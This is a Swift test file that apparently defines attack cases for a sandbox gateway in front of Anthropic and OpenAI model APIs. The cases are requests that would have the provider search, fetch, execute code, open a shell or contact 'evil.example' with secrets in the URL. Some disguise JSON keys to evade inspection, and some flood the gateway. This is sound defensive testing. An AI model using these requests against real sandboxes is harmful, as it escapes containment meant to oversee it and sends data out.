extension Attack {
    /// Model requests that would have the provider reach what the sandbox may not, and floods of what is no request.
    /// Without the gateway each goes out as it is.
    static let modelRequests: [Attack] = [
        model(
            "web-search", "asks for the provider's web search", "CWE-441; Anthropic web search tool",
            #"{"messages":[],"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#),
        model(
            "web-fetch", "asks for the provider's web fetch, among honest tools", "CWE-918; Anthropic web fetch tool",
            #"{"tools":[{"name":"a","input_schema":{}},{"type":"web_fetch_20250910","name":"web_fetch"}]}"#),
        model(
            "code-execution", "asks for a container of the provider's", "CWE-441; Anthropic code execution tool",
            #"{"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}"#),
        model(
            "mcp-server", "has the provider call a server of the attacker's", "CWE-918; Anthropic MCP connector",
            #"{"mcp_servers":[{"type":"url","url":"https://evil.example/?secret","name":"x"}]}"#),
        model(
            "image-url", "has the provider load an image from a URL that carries data", "CWE-918; CWE-200",
            #"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?s"}}]}]}"#
        ),
        model(
            "escaped-key", "spells a key so that a search for it fails", "RFC 8259 7; CWE-436",
            #"{"t\\u006fols":[{"type":"web_fetch_20250910"}]}"#),
        model(
            "key-in-other-case", "spells a key as only lax readers take it", "Go encoding/json; CWE-178",
            #"{"TOOLS":[{"type":"web_fetch_20250910"}]}"#),
        model(
            "key-twice", "gives two lists of tools, of which each side heeds another", "RFC 8259 4; CWE-436",
            #"{"tools":[],"tools":[]}"#, reason: "model_request_malformed"),
        model(
            "byte-order-mark", "starts with a mark that some readers skip", "RFC 8259 8.1; CWE-436",
            #"\xef\xbb\xbf{}"#, reason: "model_request_malformed"),
        model(
            "deep-body", "nests without end", "CWE-674", #"{"a":' + '[' * 5000 + '"#,
            reason: "model_request_malformed"),
        model(
            "packed-body", "packs its body, so that nobody can look into it", "RFC 9110 8.4; CWE-436", "{}",
            headers: "Content-Encoding: gzip\n"),
        model(
            "openai-search", "asks for the provider's web search", "CWE-441; OpenAI web search tool",
            #"{"input":"x","tools":[{"type":"web_search"}]}"#, path: "openai/v1/responses"),
        model(
            "openai-file-url", "has the provider load a file", "CWE-918; OpenAI file inputs",
            #"{"input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/?s"}]}]}"#,
            path: "openai/v1/responses"),
        model(
            "openai-hosted-shell", "asks for a shell on the provider's side", "CWE-441; OpenAI shell tool",
            #"{"tools":[{"type":"shell","environment":{"type":"container_auto"}}]}"#, path: "openai/v1/responses"),
        model(
            "openai-search-model", "asks a model that searches by itself", "CWE-441; OpenAI search models",
            #"{"model":"gpt-4o-search-preview","messages":[]}"#, path: "openai/v1/chat/completions"),
        Attack(
            name: "gateway-connection-rate", category: .gateway,
            tries: "makes connections that never become requests, for the gateway to work on", walls: [.gateway],
            reference: "CWE-400; CWE-770",
            body: .probe(
                """
                started = time.time()
                for _ in range(300): ask(b'x\\r\\n\\r\\n')
                if time.time() - started > 4: raise Refused('held up')
                """), refusal: ["held up"], record: .gateway("connection_rate"), control: .relay,
            // There the rate is higher than a slow machine's.
            isTask: false),
    ]

    /// - Parameters:
    ///   - body: Part of a Python string in single quotes.
    ///   - reason: The record's.
    private static func model(
        _ name: String, _ what: String, _ reference: String, _ body: String, headers: String = "",
        path: String = "anthropic/v1/messages", reason: String = "model_request_refused"
    ) -> Attack {
        let request = "POST /\(path) HTTP/1.1\nHost: g\n\(headers)Content-Length: %d\n\n".replacing("\n", with: "\\n")
        // Latin-1, so that a text can hold any byte.
        let probe = """
            body = ('\(body)').encode('latin-1')
            http(('\(request)' % len(body)).replace('\\n', '\\r\\n').encode() + body)
            """
        return Attack(
            name: "model-" + name, category: .gateway, tries: what, walls: [.gateway], reference: reference,
            body: .probe(probe), refusal: ["[4"], record: .gateway(reason), control: .relay,
            // A task without an agent has no key for a model, which is said first.
            isTask: false)
    }
}
